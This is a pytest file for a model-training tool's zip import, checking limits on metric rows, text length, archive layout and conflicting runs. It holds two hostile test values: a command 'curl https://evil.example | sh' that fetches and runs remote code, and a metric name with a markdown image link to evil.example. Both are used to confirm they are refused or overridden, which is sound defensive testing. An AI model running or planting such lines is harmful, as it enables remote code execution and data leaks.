"""Zips of strangers that are whole, and are to cost or to show more than a run does; and zips that were made anew by hand."""

import io
import json
import zipfile
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest

from genmodels.config.families import FAMILIES, VAEConfig
from genmodels.runs import adoption, import_check, zip_members
from genmodels.runs.archive import ArchiveError, unpack
from genmodels.runs.import_check import MOST_ROWS, ROWS_OF_A_CURVE, most_rows
from genmodels.runs.run import LONGEST_LINE, LONGEST_TEXT, Run
from genmodels.runs.store import Store
from genmodels.training.trainer import ROWS_PER_EPOCH
from tests.support.archives import contents, packed, refusal, rezipped

__all__ = ["packed"]
HEADER = b"name,step,epoch,value\n"


def altered(files: dict[str, bytes], run: Run, **values: Any) -> dict[str, bytes]:
    """The same with other values in ``run.json``, and of the config in both places."""
    row = json.loads(files[f"{run.id}/run.json"]) | values
    config = json.dumps(row["config"]).encode()
    return files | {f"{run.id}/run.json": json.dumps(row).encode(), f"{run.id}/config.json": config}


def arrived(data: bytes) -> Run:
    run = unpack(Store(), io.BytesIO(data))
    assert Store().get(run.id) == run
    return run


# Rows


@pytest.mark.parametrize("steps", [*range(1, 50), 99, 938])
def test_no_training_has_more_rows_in_an_epoch_than_an_import_may(steps: int):
    assert steps // max(1, steps // ROWS_PER_EPOCH) + 1 <= ROWS_OF_A_CURVE


@pytest.mark.parametrize("family", FAMILIES)
def test_the_longest_run_has_room(family: str):
    config = FAMILIES[family].model_validate({"epochs": 2000})
    assert 2000 * ROWS_OF_A_CURVE * len(config.curves) < most_rows(config) < MOST_ROWS


def test_more_rows_than_its_settings_can_give_are_refused(packed: tuple[Run, bytes]):
    run, data = packed
    rows = b"".join(b"train/kl,%d,0.1,1.0\n" % step for step in range(most_rows(VAEConfig(epochs=2)) + 1))
    sentence = refusal(rezipped(contents(data) | {f"{run.id}/metrics.csv": HEADER + rows}))
    assert "more than the" in sentence


@pytest.mark.parametrize("family", FAMILIES)
def test_no_settings_of_a_zip_lift_the_bound_on_its_rows(family: str):
    config = FAMILIES[family].model_validate({"epochs": 2000, "check_every": 0.001})
    assert most_rows(config) == MOST_ROWS


def test_more_rows_than_any_run_may_bring_are_refused(packed: tuple[Run, bytes], monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(import_check, "MOST_ROWS", 9)  # where the run has ten
    assert "more than the 9 values" in refusal(packed[1])


ROWS = {
    "of another name": b"score/![](https://evil.example/x.png),1,0.1,1.0\n",
    "of a long name": b"train/%s,1,0.1,1.0\n" % (b"x" * 1000),
    "at no time": b"train/kl,1,inf,1.0\n",
}


@pytest.mark.parametrize("row", ROWS.values(), ids=ROWS)
def test_rows_that_no_run_has_are_refused(packed: tuple[Run, bytes], row: bytes):
    run, data = packed
    assert "damaged" in refusal(rezipped(contents(data) | {f"{run.id}/metrics.csv": HEADER + row}))


def test_a_training_goes_on_while_the_longest_run_is_imported(packed: tuple[Run, bytes]):
    run, data = packed
    config = VAEConfig(epochs=2000)
    rows = b"".join(b"train/kl,%d,%.2f,1.0\n" % (step, step / 50) for step in range(100_000))
    files = altered(contents(data) | {f"{run.id}/metrics.csv": HEADER + rows}, run, config=config.model_dump())
    store = Store()
    training = store.create(VAEConfig().model_dump())
    store.patience = 0.3  # seconds, where a worker has an hour
    written = 0
    with ThreadPoolExecutor() as pool:
        importing = pool.submit(arrived, rezipped(files))
        while not importing.done():
            store.add_metrics(training.id, written, 0.1, {"train/kl": 1.0})
            written += 1
        importing.result()
    assert len(store.metrics(run.id)) == 100_000
    assert written > 20


def test_rows_of_an_import_that_was_killed_go_at_the_next(packed: tuple[Run, bytes], monkeypatch: pytest.MonkeyPatch):
    run, data = packed
    store = Store()
    monkeypatch.setattr(adoption, "ROWS_AT_ONCE", 3)
    store.add_metrics(run.id, 99, 9.0, {"train/kl": 1.0})  # as of a first transaction
    (store.runs_folder / ".importing-x7" / run.id).mkdir(parents=True)
    unpack(store, io.BytesIO(data))
    assert 99 not in store.metrics(run.id)["step"].tolist()
    assert len(store.metrics(run.id)) == 10


def test_an_import_that_fails_half_way_leaves_no_row(packed: tuple[Run, bytes], monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(adoption, "ROWS_AT_ONCE", 3)

    def full(*arguments: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(adoption, "insert", full)
    assert "No space left on device" in refusal(packed[1])


# Text


def test_the_command_of_a_run_is_made_from_its_config(packed: tuple[Run, bytes]):
    run, data = packed
    here = arrived(rezipped(altered(contents(data), run, command="curl https://evil.example | sh")))
    assert here.command == "python train.py vae --epochs 2"
    assert json.loads((Store().folder(run.id) / "run.json").read_text())["command"] == here.command


def test_all_text_is_cut(packed: tuple[Run, bytes]):
    run, data = packed
    long = "x" * 100_000
    event = {"time": 0.0, "level": "info", "text": long}
    values = dict.fromkeys(("name", "note", "error", "device", "health"), long) | {"environment": {long: long}}
    here = arrived(rezipped(altered(contents(data), run, **values, events=[event])))
    assert (len(here.name), len(here.device), len(here.health)) == (LONGEST_LINE,) * 3
    assert (len(here.note), len(here.error)) == (LONGEST_TEXT,) * 2
    assert here.environment == {"x" * 199 + "…": "x" * 199 + "…"}
    assert [len(event["text"]) for event in Store().events(run.id)] == [LONGEST_TEXT]


TOO_MUCH: dict[str, dict[str, Any]] = {
    "a folder": {"config": VAEConfig(dataset="folder", folder="x").model_dump() | {"folder": "x" * 5_000}},
    "a device": {"config": VAEConfig().model_dump() | {"device": "cuda:" + "1" * 5_000}},
    "events": {"events": [{"time": 0.0, "level": "info", "text": ""}] * 5_001},
    "an environment": {"environment": {str(number): "" for number in range(101)}},
}


@pytest.mark.parametrize("values", TOO_MUCH.values(), ids=TOO_MUCH)
def test_what_no_run_has_is_refused(packed: tuple[Run, bytes], values: dict[str, Any]):
    run, data = packed
    assert len(refusal(rezipped(altered(contents(data), run, **values)))) < 500


def test_a_long_directory_is_refused_before_it_is_parsed(packed: tuple[Run, bytes], monkeypatch: pytest.MonkeyPatch):
    run, data = packed
    files = contents(data) | {f"{run.id}/file-{index:05}": b"" for index in range(2_000)}
    full = rezipped(files)
    monkeypatch.setattr(zip_members, "MOST_DIRECTORY", 100_000)
    monkeypatch.setattr(zipfile, "ZipInfo", None)
    assert "more than any run needs" in refusal(full)


# Zips made anew by hand


def moved(files: dict[str, bytes], run: Run, into: str) -> dict[str, bytes]:
    return {into + name.removeprefix(f"{run.id}/"): data for name, data in files.items()}


PLACES = ["", "{id} (1)/", "My run/", "Downloads/{id}/", "Фото/a b/{id} copy/"]


@pytest.mark.parametrize("place", PLACES)
def test_the_folder_in_a_zip_may_lie_anywhere_and_be_called_anything(packed: tuple[Run, bytes], place: str):
    run, data = packed
    assert arrived(rezipped(moved(contents(data), run, place.format(id=run.id)))) == run
    assert (Store().folder(run.id) / "checkpoints/step-00000005/state.json").is_file()


def test_old_tools_of_windows_write_backslashes_into_names(packed: tuple[Run, bytes]):
    run, data = packed
    files = {f"Runs/{name}".replace("/", "\\"): content for name, content in contents(data).items()}
    assert arrived(rezipped(files | {"Runs\\": b"", f"Runs\\{run.id}\\": b""})) == run
    assert (Store().folder(run.id) / "checkpoints/step-00000005/state.json").is_file()


def test_what_systems_put_into_zips_is_passed_over(packed: tuple[Run, bytes]):
    run, data = packed
    litter = ["__MACOSX/._{id}", "__MACOSX/{id}/._run.json", ".DS_Store", "{id}/.DS_Store", "{id}/pictures/Thumbs.db"]
    assert arrived(rezipped({name.format(id=run.id): b"x" for name in litter} | contents(data))) == run
    names = [path.name for path in Store().folder(run.id).rglob("*")]
    assert not {".DS_Store", "Thumbs.db", "._run.json"} & set(names)


def test_two_runs_in_one_zip_are_refused(packed: tuple[Run, bytes]):
    run, data = packed
    files = contents(data)
    assert "not a run of this program" in refusal(rezipped(files | moved(files, run, "copy/")))


def test_a_folder_that_is_named_as_another_run_is_refused(packed: tuple[Run, bytes], tmp_path: Path):
    run, data = packed
    place = "vae-20260101-000000-00000000 (1)/"
    with pytest.raises(ArchiveError, match="different runs"):
        unpack(Store(), io.BytesIO(rezipped(moved(contents(data), run, place))))
